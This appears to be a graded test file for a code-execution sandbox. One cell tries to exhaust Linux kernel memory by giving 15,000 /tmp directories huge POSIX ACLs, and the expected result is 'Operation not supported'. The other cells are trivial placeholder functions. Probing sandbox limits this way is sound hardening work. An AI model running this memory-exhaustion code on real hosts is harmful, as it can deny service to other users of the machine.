"""Lists of rights of thousands of files: Linux keeps them in memory that no limit counts."""

# status: graded
# points: 0 2
# shows: Operation not supported

# %% T-f
import os
import struct

user = struct.pack("<HHI", 2, 6, 1000)
parts = [(1, 6), (4, 6), (16, 6), (32, 0)]
owner, *others = (struct.pack("<HHI", tag, rights, 2**32 - 1) for tag, rights in parts)
rights = struct.pack("<I", 2) + owner + 8100 * user + b"".join(others)
try:
    for number in range(15_000):
        os.mkdir(f"/tmp/{number}")
        os.setxattr(f"/tmp/{number}", "system.posix_acl_access", rights)
        os.setxattr(f"/tmp/{number}", "system.posix_acl_default", rights)
except OSError as error:
    print(error)


def f(x):
    return 0 * x

# %% T-g
def g(x):
    return x + 1
